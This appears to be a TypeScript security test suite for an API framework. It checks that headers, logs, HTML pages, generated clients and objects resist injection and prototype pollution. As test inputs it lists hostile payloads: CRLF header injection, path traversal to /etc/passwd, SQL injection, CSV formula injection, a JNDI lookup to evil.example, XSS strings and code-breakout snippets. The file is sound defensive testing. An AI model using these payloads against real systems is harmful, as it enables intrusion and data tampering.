/**
 * Input stays data: no caller can inject a header, a log line, HTML, code, or a member of an object's prototype (CWE-93, CWE-117,
 * CWE-79, CWE-94, CWE-1321, OWASP API3).
 */
import assert from "node:assert/strict";
import { stripTypeScriptTypes } from "node:module";
import { describe, test } from "node:test";
import { createContext, runInContext } from "node:vm";
import { openapi } from "../../src/export/openapi/openapi.ts";
import { markdown } from "../../src/export/markdown/markdown.ts";
import { servicePages } from "../../src/export/page/pages.ts";
import { typescriptClient } from "../../src/export/typescript/client.ts";
import { commonParts } from "../../src/export/typescript/common-parts.ts";
import { textOf as logTextOf } from "../../src/observability/log-text.ts";
import { createRedact } from "../../src/observability/redact.ts";
import { check } from "../../src/language/check.ts";
import { buildPlan } from "../../src/plan/build.ts";
import { documentOf } from "../enforced/document.ts";
import type { Reply, Sent } from "../serve/client.ts";
import { createClient } from "../serve/client.ts";
import { run } from "../serve/running.ts";
import { documentText, faultsOf, served } from "../serve/scenario.ts";

const injected = "X-Injected: yes";
/** Texts that end a line, a field, a quotation, an element or a comment somewhere. */
const texts = [
  `a\r\n${injected}`, `a\n${injected}`, `a\r${injected}`, `a\u0000${injected}`, `a\u001b[2J\u001b]0;owned\u0007`,
  `a\u2028${injected}`, `a\u0085${injected}`, `a\u202eexe.txt`, `a";${injected}`, `a>; rel="next", <http://evil.example`,
  "../../etc/passwd", "..\\..\\boot.ini", "\u6f22\u5b57", "\u{1f4a9}", "%0d%0aX-Injected: yes", "%250d%250a", "<script>alert(1)</script>",
  "'; DROP TABLE Thing; --", "=cmd|' /C calc'!A0", "@SUM(1+1)", "$" + "{jndi:ldap://evil.example}", "{{7*7}}", "__proto__", "\ufeffa", "a\\",
]; // biome-ignore format: a table

const things = documentOf({
  resources: {
    Thing: {
      id: "string(1..60)",
      name: "string(1..60), filter, sort, search, unique",
      "labels?": "map(string(1..60))",
      "data?": { schema: { type: "object" } },
      "photo?": "file(..1KB, text/*)",
    },
  },
  endpoints: {
    endpoints: {
      addThing: "POST /things",
      getThing: "GET /things/{id}",
      listThings: "GET /things",
      changeThing: "PATCH /things/{id}",
      putThing: "PUT /things/{id}",
      removeThing: "DELETE /things/{id}",
      getPhoto: "GET /things/{id}/photo",
      putPhoto: "PUT /things/{id}/photo",
    },
  },
});

/** A head in which everything is in its place. */
function isClean(reply: Reply | undefined, label: string): asserts reply is Reply {
  assert(reply !== undefined, `${label}: an answer`);
  assert(reply.status < 500, `${label}: ${reply.text}`);
  assert.equal(reply.headers["x-injected"], undefined, label);
  for (const [name, value] of Object.entries(reply.headers)) {
    assert.match(name, /^[a-z0-9-]+$/, label);
    assert.match(value, /^[\t\x20-\x7e\x80-\xff]*$/, `${label}: ${name}`);
  }
}

served("header fields", things, (subject) => {
  const send = (sent: Sent): Promise<Reply> => subject.client.send(sent);
  for (const text of texts) {
    test(`no field is made of ${JSON.stringify(text)}`, async () => {
      const made = await send({ method: "POST", path: "/things", body: { id: text, name: text } });
      isClean(made, "a record called so");
      if (made.status !== 201) assert.equal(made.status, 422, made.text);
      else {
        const location = made.headers["location"] ?? "";
        assert.match(location, /^\/things\/[\x21-\x7e]+$/);
        if (!/[\p{Cc}]/u.test(text)) {
          const read = await send({ method: "GET", path: location });
          assert.equal((read.json as { id?: string }).id, text, "Location leads to it");
        }
      }
      const encoded = encodeURIComponent(text);
      for (const path of [`/things?name=${encoded}&limit=1`, `/things?search=${encoded}`, `/things?${encoded}=1`, `/things?sort=${encoded}`, `/things?cursor=${encoded}`, `/${encoded}`, `/things/${encoded}`, `/errors/${encoded}`])
        isClean(await send({ method: "GET", path }), path);
      isClean(await send({ method: "OPTIONS", path: `/things/${encoded}`, headers: { Origin: `https://${encoded}` } }), "a preflight");
      const boundary = "a-boundary";
      const name = Buffer.from(text.replaceAll(/[\r\n"]/g, "_"));
      const id = `f${texts.indexOf(text)}`;
      const disposition = Buffer.concat([Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="photo"; filename="`), name, Buffer.from(`"; filename*=UTF-8''${encoded}\r\nContent-Type: text/html\r\n\r\n<script>alert(1)</script>\r\n--${boundary}--\r\n`)]);
      const fields = Object.entries({ id, name: id }).map(([field, value]) => `--${boundary}\r\nContent-Disposition: form-data; name="${field}"\r\n\r\n${value}\r\n`);
      const form = Buffer.concat([Buffer.from(fields.join("")), disposition]);
      const kept = await send({ method: "POST", path: "/things", headers: { "Content-Type": `multipart/form-data; boundary=${boundary}` }, body: form });
      isClean(kept, "a file called so");
      if (kept.status !== 201) return;
      const file = await send({ method: "GET", path: `/things/${id}/photo` });
      isClean(file, "the file");
      assert.match(file.headers["content-disposition"] ?? "", /^attachment(?:; filename="[\x20\x21\x23-\x5b\x5d-\x7e]*"(?:; filename\*=UTF-8''[\w!#$&+.^`|~%-]*)?)?$/);
      assert.equal(file.headers["x-content-type-options"], "nosniff");
    });
  }

  test("R1.3 what a caller calls its request is not given back", async () => {
    for (const name of ["Request-Id", "X-Request-Id", "Traceparent", "Baggage", "X-Correlation-Id"]) {
      const reply = await send({ method: "GET", path: "/things", headers: { [name]: "echo-me-4711" } });
      isClean(reply, name);
      assert(!`${JSON.stringify(reply.headers)}${reply.text}`.includes("echo-me-4711"), name);
    }
  });
}); // biome-ignore format: long lines

served("prototypes", things, (subject) => {
  const names = ["__proto__", "constructor", "prototype", "toString", "hasOwnProperty", "__defineGetter__", "valueOf"];
  const before = [Object.prototype, Array.prototype, Function.prototype].map((one) => Reflect.ownKeys(one).length);
  const post = (body: string): Promise<Reply> =>
    subject.client.send({ method: "POST", path: "/things", headers: { "Content-Type": "application/json" }, body });

  for (const name of names) {
    test(`R2.5 ${name} is a name like any other, wherever it stands`, async () => {
      const unknown = await post(`{"id":"x","name":"x","${name}":{"polluted":1}}`);
      assert.equal(unknown.status, 422, unknown.text);
      assert.deepEqual(faultsOf(unknown), [`#/${name} unknown-field`]);
      const id = `p${names.indexOf(name)}`;
      const made = await post(`{"id":"${id}","name":"${id}","labels":{"${name}":"kept"},"data":{"${name}":{"polluted":{"${name}":1}}}}`);
      assert.equal(made.status, 201, made.text);
      assert(made.text.includes(`"labels":{"${name}":"kept"}`), made.text);
      const patch = await subject.client.send({
        method: "PATCH",
        path: `/things/${id}`,
        headers: { "Content-Type": "application/merge-patch+json" },
        body: `{"data":{"${name}":{"polluted":2}},"labels":{"${name}":null,"b":"c"}}`,
      });
      assert(patch.status < 500, patch.text);
      for (const query of [`${name}=x`, `sort=${name}`, `${name}[gte]=1`, `name[${name}]=1`, `labels[${name}]=x`, `filter[${name}]=x`]) {
        const reply = await subject.client.send({ method: "GET", path: `/things?${query}` });
        assert.equal(reply.status, 400, `${query}: ${reply.text}`);
      }
      for (const path of [`/${name}`, `/things/${name}`, `/things/${name}/photo`, `/errors/${name}`]) {
        const reply = await subject.client.send({ method: "GET", path, headers: { [name]: "x" } });
        assert.equal(reply.status, 404, path);
      }
      assert.equal(({} as Record<string, unknown>)["polluted"], undefined);
      assert.deepEqual([Object.prototype, Array.prototype, Function.prototype].map((one) => Reflect.ownKeys(one).length), before);
    });
  }

  test("OWASP API3 what the service keeps for itself cannot be set", async () => {
    for (const name of ["_rev", "_seq", "_due", "_entered", "state", "owner", "role", "roles", "createdAt", "rowid", "$set", "__v"]) {
      const reply = await post(`{"id":"m","name":"m","${name}":1}`);
      assert.deepEqual(faultsOf(reply), [`#/${encodeURIComponent(name)} unknown-field`], reply.text);
    }
  });
}); // biome-ignore format: long lines

test("addresses that a client sends are not made a header by the authorization server", async () => {
  await using running = await run(documentText("notebook"), { store: "memory" });
  using client = createClient(running.port, () => {});
  for (const text of texts) {
    const query = new URLSearchParams({ client_id: text, redirect_uri: `https://evil.example/${text}`, state: text, response_type: "code", scope: text });
    const reply = await client.send({ method: "GET", path: `/oauth/authorize?${query.toString()}` });
    isClean(reply, text);
    assert.equal(reply.headers["location"], undefined, "nobody is sent where no client said");
    assert(!reply.text.includes("<script"), reply.text);
  }
}); // biome-ignore format: long lines

describe("logs", () => {
  for (const text of texts) {
    test(`CWE-117 a line of the log stays one, and moves no cursor, with ${JSON.stringify(text)}`, () => {
      const line = logTextOf({ level: "info", at: 0, message: text, members: { caller: text, client_request_id: text } }, false);
      assert.equal(line.indexOf("\n"), line.length - 1, line);
      assert.doesNotMatch(line.slice(0, -1), /[\p{Cc}\p{Cf}\u2028\u2029]/u);
    });
  }

  test("R1.5 what is secret is taken out of what others have worded", () => {
    const redact = createRedact(["a shared secret"]);
    const told = redact("postgres://nonet:hunter2@db/x failed, Bearer vk_abcdefgh123 by a shared secret, password=hunter2");
    assert.doesNotMatch(told, /hunter2|vk_abc|a shared secret/);
  });

  test("R5.4 no secret is in the title or the arguments of the process", () => {
    assert.doesNotMatch(`${process.title} ${process.argv.join(" ")} ${process.execArgv.join(" ")}`, /secret|whsec_|Bearer/i);
  });
}); // biome-ignore format: long lines

/** A document whose every sentence would be something else, were it not kept as one. */
const evil = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "[a](javascript:alert(1))", "![a](https://evil.example/x.png)",
  "*/ globalThis.pwned = 1; /*", "`); globalThis.pwned = 1; (`", "$" + "{globalThis.pwned = 1}", "--> B; click A href", "</style><script>alert(1)</script>",
  "\" onmouseover=\"alert(1)", "<a href='data:text/html,x'>",
]; // biome-ignore format: a table

for (const text of evil) {
  test(`CWE-79 CWE-94 pages and programs made of a document say ${JSON.stringify(text)}, and do not do it`, async () => {
    const quoted = JSON.stringify(text);
    const base = documentOf({
      purpose: { purpose: quoted, operations: { addThing: quoted, getThing: quoted }, users: { member: quoted, admin: quoted } },
      resources: { Thing: { id: "id(thi)", name: { type: "string(1..40)", note: quoted } } },
      states: { Thing: { states: { one: quoted, two: quoted }, start: "one", moves: { "one -> two": "after 1h" } } },
      endpoints: { endpoints: { addThing: "POST /things", getThing: "GET /things/{id}" } },
      errors: { errors: { odd: `409 ${text}` } },
    });
    const whole = base.replace("# Things\n", `# Things ${text}\n`).replace("## What the service does\n", `$&${text}\n\n`);
    const result = check("evil.md", whole);
    const errors = result.diagnostics.filter(({ severity }) => severity === "error");
    if (errors.length > 0) return assert(!errors.some(({ message }) => message.includes("\n\n\n")));
    const plan = buildPlan(result.model, result.places, result.expressions);
    for (const page of servicePages({ result, plan, baseUrl: () => "http://x" })) {
      const parameters = Object.fromEntries(page.path.flatMap((one) => (one.kind === "parameter" ? [[one.name, "odd"]] : [])));
      const given = await page.page({ headers: { get: (name) => (name === "accept" ? "text/html" : undefined) } }, parameters, () => ({ plan }));
      if (!given.headers.some((value) => value.startsWith("text/html"))) continue;
      const html = given.body ?? "";
      assert.doesNotMatch(html, /<script|<iframe|<object|<img[^>]*onerror|<img[^>]*evil\.example|<[a-z][^<>]*\s(?:href|src)=["']?\s*(?:javascript|data:text)/i);
      // What is left of tags is text: no attribute begins with `on` in any real one.
      for (const [tag] of html.matchAll(/<[a-z][^<>]*>/gi)) assert.doesNotMatch(tag.replaceAll(/"[^"]*"/g, '""'), /\son\w+\s*=/i);
      assert.doesNotMatch(given.policy ?? "default-src 'none'", /unsafe|script-src/);
    }
    const context = createContext({ globalThis: {} });
    const program = stripTypeScriptTypes(typescriptClient(plan, commonParts(() => ""))).replaceAll(/^\s*(?:import|export)\b/gm, "");
    try {
      runInContext(program, context, { timeout: 1000 });
    } catch {
      // It needs what is not here; what matters is what it did before.
    }
    assert.equal((context as { pwned?: number }).pwned, undefined);
    assert.equal((globalThis as { pwned?: number }).pwned, undefined);
    assert(JSON.stringify(openapi(plan, "http://x")).length > 0);
    const prose = markdown(plan, result.model, "http://x").replaceAll(/`[^`\n]*`/g, "");
    assert.doesNotMatch(prose, /(?<!\\)<(?:script|img)/i);
  });
} // biome-ignore format: long lines
